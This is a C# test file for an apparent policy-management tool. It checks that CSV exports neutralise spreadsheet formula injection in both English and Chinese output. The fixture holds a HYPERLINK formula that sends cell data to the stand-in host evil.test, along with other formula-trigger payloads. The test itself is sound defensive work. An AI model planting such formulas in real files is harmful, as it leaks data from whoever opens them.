using Steward.Security;
using Steward.Tests.Infrastructure;
using Steward.Tests.Policy;

namespace Steward.Tests.Notices;

/// <summary>Policy texts are written by people and copied from elsewhere: no output may let them attack the reader.</summary>
public sealed class HostileTextTests
{
    private const string Formula = "=HYPERLINK(\"https://evil.test/?\"&A1,\"Click\")";

    private static string PolicyWithFormulas() => PolicyFixture.Write(PolicyFixture.Minimal
        .Swap("name: { en: Running your account, zh-CN: 管理您的帐户 }", $"name: {{ en: '{Formula}', zh-CN: '{Formula}' }}")
        .Swap("description: { en: We use your name and email to run your account., zh-CN: 我们使用您的姓名和电子邮件地址管理您的帐户。 }",
              "description: { en: '@SUM(1+1)', zh-CN: '-2+3' }")
        .Swap("description: { en: We email you news you asked for., zh-CN: 我们向您发送您订阅的新闻。 }",
              "description: { en: \"\\tTab first\", zh-CN: \"\\r+carriage return\" }"));

    /// <summary>The cells of a CSV line, unquoted (the test rows have no line breaks inside cells).</summary>
    private static List<string> Cells(string line)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (c == ',' && !quoted) { cells.Add(cell.ToString()); cell.Clear(); }
            else cell.Append(c);
        }
        cells.Add(cell.ToString());
        return cells;
    }

    private static void AssertNoFormulas(string csv)
    {
        var cells = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries).SelectMany(Cells).ToList();
        Assert.Contains("'" + Formula, cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
    }

    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised()
    {
        await using var app = await StewardTestApp.StartAsync();
        await app.PublishAsync(PolicyWithFormulas());
        var auditor = await app.ClientForRoleAsync(Roles.Auditor);
        foreach (var lang in new[] { "en", "zh-CN" })
            AssertNoFormulas(await auditor.GetStringAsync($"/api/v1/ropa?format=csv&lang={lang}"));

        var file = Path.Combine(Directory.CreateTempSubdirectory("steward-csv-").FullName, "ropa.csv");
        var r = await StewardCli.RunAsync(app.Database, "", "policy", "ropa", "--format", "csv", "-o", file);
        Assert.Equal(0, r.ExitCode);
        AssertNoFormulas(await File.ReadAllTextAsync(file));
    }
}
